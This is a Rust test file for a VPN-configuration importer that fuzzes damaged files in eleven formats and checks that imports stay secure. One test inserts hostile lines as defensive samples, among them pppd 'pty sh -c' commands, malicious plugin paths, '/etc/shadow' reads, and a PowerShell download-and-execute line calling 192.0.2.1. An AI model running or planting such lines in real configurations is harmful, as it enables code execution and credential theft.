//! Hostile and damaged files of every format.

#![expect(clippy::print_stdout, reason = "the checks show the figures")]

use std::time::{Duration, Instant};

use culvert_model::{Dns, Encryption, Ipv6, Weakness};

use super::{Found, Refusal, Source, Treatment};
use super::{mail, mobileconfig, netplan, network_manager, own, phonebook, pppd, routeros, uci};

const SCRIPT: &str = "Add-VpnConnection -Name 'Office' -ServerAddress 'vpn.example.com' -TunnelType Pptp \
    -EncryptionLevel Required -AuthenticationMethod MSChapv2 -SplitTunneling -Force\n\
    Add-VpnConnectionRoute -ConnectionName 'Office' -DestinationPrefix '10.20.0.0/16'\n";
const PROVIDER: &str = "[provider_office]\nType = PPTP\nName = Office\nHost = vpn.example.com\nPPTP.User = alice\n\
    PPPD.RefuseEAP = yes\nPPPD.RefusePAP = true\nPPPD.RefuseCHAP = true\nPPPD.RefuseMSCHAP = true\nPPPD.RequirMPPE128 = true\n";

/// A good file of each format, with one connection that is as strong as can be.
fn fixtures() -> Vec<(&'static str, String)> {
    vec![
        ("networkmanager", network_manager::tests::OFFICE.to_owned()),
        ("phonebook", phonebook::tests::BOOK.to_owned()),
        ("powershell", SCRIPT.to_owned()),
        ("mobileconfig", mobileconfig::tests::profile(mobileconfig::tests::VPN)),
        ("routeros", routeros::tests::EXPORT.replace("add connect-to=l.example.com name=l2tp-out1\r\n", "")),
        ("uci", uci::tests::NETWORK.replace("config interface 'other'\n\toption proto 'wireguard'\n", "")),
        ("culvert", own::tests::OFFICE.to_owned()),
        ("mail", mail::tests::MAIL.to_owned()),
        ("connman", PROVIDER.to_owned()),
        ("netplan", netplan::tests::OFFICE.to_owned()),
        ("pppd", pppd::tests::PPTPSETUP.replace("lock\n", "refuse-pap\nrefuse-chap\nrefuse-mschap\n")),
    ]
}

fn chance(state: &mut u64) -> usize {
    *state ^= *state << 13;
    *state ^= *state >> 7;
    *state ^= *state << 17;
    usize::try_from(*state >> 8).unwrap()
}

#[test]
fn each_fixture_is_one_strong_connection() {
    for (name, text) in fixtures() {
        let preview = super::read(&[Source::pasted(text)]);
        assert_eq!((preview.found.len(), preview.refused.len()), (1, 0), "{name}: {preview:?}");
        assert_eq!(preview.found[0].format.as_str(), name);
        assert_eq!(preview.found[0].saved.profile.encryption, Encryption::Required128, "{name}");
        assert!(!preview.found[0].saved.profile.is_weaker(), "{name}");
    }
}

/// Whatever it reads into them, it ends, and soon.
#[test]
fn ten_thousand_damaged_files_do_no_harm() {
    let (fixtures, mut state) = (fixtures(), 0x2545_f491_4f6c_dd1d);
    let (mut found, mut slowest) = (0, Duration::ZERO);
    for round in 0..10_000 {
        let mut bytes = fixtures[round % fixtures.len()].1.clone().into_bytes();
        for _ in 0..=chance(&mut state) % 6 {
            let at = chance(&mut state) % bytes.len();
            let end = (at + chance(&mut state) % 64).min(bytes.len());
            match chance(&mut state) % 5 {
                0 => bytes[at] = u8::try_from(chance(&mut state) % 256).unwrap(),
                1 => bytes.insert(at, b"\"'`[]{}()<>=;\\\n$@#&\0\xff"[chance(&mut state) % 21]),
                2 => bytes.extend_from_within(at..end),
                3 => bytes.truncate(at.max(1)),
                _ => bytes.rotate_left(at),
            }
        }
        let begin = Instant::now();
        let preview = super::read(&[Source::of_bytes("damaged", bytes)]);
        slowest = slowest.max(begin.elapsed());
        found += preview.found.len();
        for found in &preview.found {
            let mut profile = found.saved.profile.clone();
            profile.username.push('x');
            assert_eq!(profile.check(), Ok(()));
        }
    }
    println!("figure: 10000 damaged files of 11 formats: {found} connections, the slowest took {slowest:?}");
    assert!(found > 500);
}

/// What no file may bring about, whatever it says: a tunnel without the guard, or one that is open at its side.
fn is_safe(found: &Found) {
    let profile = &found.saved.profile;
    assert!(profile.guard && profile.reconnect && !profile.lan && !profile.through_other_vpn);
    assert_eq!((profile.ipv6, &profile.gateway), (Ipv6::Block, &None));
    assert!(profile.server.as_str().starts_with("vpn.example.com"), "{}", profile.server.as_str());
}

/// Lines that a hostile file puts among the good ones. None of them makes the connection weaker, and none is passed over
/// in silence; where it breaks the file, the file is refused.
#[test]
fn hostile_lines_weaken_nothing_and_are_told() {
    const LINES: [&str; 32] = [
        "pty \"sh -c 'touch /tmp/owned'\"",
        "pty=sh -c id",
        "plugin=/tmp/evil.so",
        "plugin evil.so",
        "connect=/tmp/evil",
        "up=/tmp/evil",
        "ip-up-script=/tmp/evil",
        "init=/tmp/evil",
        "welcome=/tmp/evil",
        "record=/etc/shadow",
        "file=/etc/shadow",
        "call=../../etc/shadow",
        "password=@/etc/shadow",
        "option pppd_options 'plugin evil.so'",
        "option up '/tmp/evil'",
        "CustomDialDll=C:\\evil.dll",
        "CustomDialFunc=evil",
        "ScriptAfter=1",
        "guard=false",
        "lan=true",
        "ipv6=leave",
        "gateway=eth0",
        "through_other_vpn=true",
        "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')",
        "/system script run evil",
        ":execute \"evil\"",
        "on-up=\"/tool fetch url=http://192.0.2.1/\"",
        "<string>evil</string>",
        "PPPD.Plugin = /tmp/evil.so",
        "Script = /tmp/evil",
        "extras=anything",
        "autostart=login",
    ];
    let mut tried = 0;
    for (name, text) in fixtures() {
        for hostile in LINES {
            let lines: Vec<_> = text.lines().collect();
            // In the middle, and at the end.
            for at in [lines.len() / 2, lines.len()] {
                let mut lines = lines.clone();
                lines.insert(at, hostile);
                let preview = super::read(&[Source::pasted(lines.join("\n"))]);
                tried += 1;
                // Our own files may say these things: what is weak is shown like any other.
                let foreign = preview.found.iter().filter(|_| name != "culvert");
                for found in foreign {
                    is_safe(found);
                    // Nor is it given to the next program.
                    let kept = format!("{:?}", found.saved.extras);
                    assert!(!kept.contains("owned") && !kept.contains("evil"), "{name}, {hostile}: {kept}");
                    let weak: Vec<_> = found.saved.profile.weaknesses().collect();
                    // A line of a router that breaks a section can take the word for encryption with it: that is told.
                    let is_told =
                        found.remarks.iter().any(|remark| matches!(remark.treatment, Treatment::Changed(_)));
                    assert!(weak.is_empty() || is_told, "{name}, {hostile}: {weak:?}");
                    assert!(!weak.contains(&Weakness::NoEncryption));
                    assert_ne!(found.saved.profile.dns, Dns::Leave);
                }
            }
        }
    }
    println!("figure: {tried} hostile files weakened nothing");
    assert!(tried >= 200);
}

/// Of a file of a known kind too it is said why nothing came of it.
#[test]
fn a_file_with_nothing_in_it_is_refused() {
    for text in [
        "config interface 'lan'\n\toption proto 'static'\n",
        "/interface bridge\nadd name=bridge1\n",
        "Set-VpnConnection -Name Office -SplitTunneling $true\n",
        "network:\n  nm-devices:\n",
    ] {
        let preview = super::read(&[Source::pasted(text)]);
        assert_eq!((preview.found.len(), preview.refused.len()), (0, 1), "{text}");
    }
    let secrets = || Source::of_bytes("chap-secrets", b"bob office secret *\n".to_vec());
    assert_eq!(super::read(&[secrets(), secrets()]).refused[0].why, Refusal::OnlySecrets);
}

/// What Windows wrote in Western Europe, before it wrote UTF-8.
#[test]
fn letters_of_old_windows_are_read() {
    let book = phonebook::tests::BOOK.replace("[Office]", "[B_ro _ Sued]");
    let mut bytes = book.split(|c| !char::is_ascii(&c)).collect::<String>().into_bytes();
    let at = bytes.iter().position(|byte| *byte == b'_').unwrap();
    bytes[at] = 0xfc;
    let at = bytes.iter().position(|byte| *byte == b'_').unwrap();
    bytes[at] = 0x96;
    assert_eq!(super::read(&[Source::of_bytes("x.pbk", bytes)]).found[0].saved.profile.name, "Büro – Sued");
}

#[test]
fn what_is_too_long_or_too_many_is_refused() {
    let why = |bytes: Vec<u8>| {
        super::read(&[Source::of_bytes("x", bytes)]).refused.pop().map(|refused| refused.why)
    };
    assert_eq!(why(vec![b'a'; 1 << 21]), Some(Refusal::TooLong));
    assert_eq!(
        why(format!("[connection]\nid={}", "x".repeat(70 << 10)).into_bytes()),
        Some(Refusal::TooLong)
    );
    assert!(matches!(why(b"[connection]\nid=a\0b".to_vec()), Some(Refusal::Syntax { line: 2, .. })));
    assert_eq!(why(vec![0xff, 0xfe, 0, 0xd8]), Some(Refusal::NotText));
    let many = format!("[A]\nVpnStrategy=1\nType=2\nDEVICE=vpn\nPhoneNumber=h\n{}", {
        let entry = |number: u32| format!("[{number}]\nType=2\nVpnStrategy=1\nDEVICE=vpn\nPhoneNumber=h\n");
        (0..1100).map(entry).collect::<String>()
    });
    let preview = super::read(&[Source::pasted(many)]);
    assert_eq!((preview.found.len(), preview.refused.len()), (super::MOST, 1));
    assert_eq!(preview.refused[0].why, Refusal::TooMany);
}

/// Their addresses could be taken for those of a mail.
#[test]
fn files_of_other_vpns_are_named() {
    let wireguard = "# office\n[Interface]\nPrivateKey = x\nAddress = 10.0.0.2\n[Peer]\nEndpoint = wg.example.org:51820\n";
    let openvpn = "client\ndev tun\nremote vpn.example.com 1194\nauth-user-pass\n";
    for (text, kind) in [(wireguard, "WireGuard"), (openvpn, "OpenVPN")] {
        let preview = super::read(&[Source::pasted(text)]);
        assert!(preview.found.is_empty(), "{kind}");
        assert_eq!(preview.refused[0].why, Refusal::OtherVpn(kind.to_owned()));
    }
    let mail = "Dear client,\nremote work begins\n\nServer: vpn.example.com\nUser: alice\n";
    assert_eq!(super::read(&[Source::pasted(mail)]).found.len(), 1, "that is a mail");
}
